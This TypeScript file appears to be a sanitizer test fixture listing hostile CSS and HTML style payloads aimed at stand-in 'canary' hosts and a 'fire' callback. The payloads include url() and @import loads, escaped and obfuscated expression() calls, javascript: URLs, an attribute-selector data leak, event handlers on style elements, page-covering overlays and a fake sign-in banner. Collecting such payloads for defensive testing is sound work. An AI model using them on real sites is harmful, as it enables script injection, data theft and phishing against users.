import { canary, fire } from './fire.ts';

const values = [
  `background:url(https://${canary}/x)`,
  `background:url("javascript:${fire}")`,
  `background-image:\\75rl(https://${canary}/x)`,
  `background:u\\72l(https://${canary}/x)`,
  `list-style:url(https://${canary}/x)`,
  `cursor:url(https://${canary}/x),auto`,
  `content:url(https://${canary}/x)`,
  `border-image:url(https://${canary}/x)`,
  `mask:url(https://${canary}/x)`,
  `filter:url(https://${canary}/x#y)`,
  `shape-outside:url(https://${canary}/x)`,
  `background:image-set("https://${canary}/x" 1x)`,
  `background:-webkit-image-set(url(https://${canary}/x) 1x)`,
  `width:expression(${fire})`,
  `width:e/**/xpression(${fire})`,
  `width:\\65xpression(${fire})`,
  `behavior:url(https://${canary}/x.htc)`,
  `-moz-binding:url(https://${canary}/x.xml#x)`,
  'position:fixed;inset:0;z-index:99999;background:#fff',
  'position:absolute;left:0;top:0;width:100vw;height:100vh',
  'animation:spin 1s;animation-name:spin',
  '--x:1;color:var(--x)',
];
const sheets = [
  `@import "https://${canary}/x.css";`,
  `@import url(https://${canary}/x.css);`,
  `@\\69mport "https://${canary}/x.css";`,
  `body{background:url(https://${canary}/x)}`,
  `input[value^=a]{background:url(https://${canary}/a)}`,
  `@font-face{font-family:x;src:url(https://${canary}/x)}`,
  `@namespace url(https://${canary}/x);`,
  '@keyframes spin{from{color:red}}',
  'body{display:none!important}',
];

/**
 * Styles in attributes and elements, which can load resources, cover the page, leak data, and run
 * scripts in old browsers.
 */
export const styles: readonly string[] = [
  ...values.map((value) => `<p style='${value}'>x</p>`),
  ...sheets.map((sheet) => `<style>${sheet}</style>`),
  `<p style=x class="hidden" id=content>x</p>`,
  `<p STYLE="color:red">x</p>`,
  `<img src=x style="animation:spin" onanimationstart=${fire}>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${fire}>x</p>`,
  `<p style="transition:color 1s" ontransitionend=${fire}>x</p>`,
  `<link rel="stylesheet" href="data:text/css,*{background:url(https://${canary}/x)}">`,
  `<style type="text/javascript">${fire}</style>`,
  `<style media="x" onload=${fire}>p{}</style>`,
  `<style onerror=${fire}>@import "x";</style>`,
  `<p class="viewing-banner account-panel">Sign in again</p>`,
  `<table width="99999" height="99999" bgcolor="#fff"><tr><td>x</td></tr></table>`,
  `<font size=99>x</font>`,
];
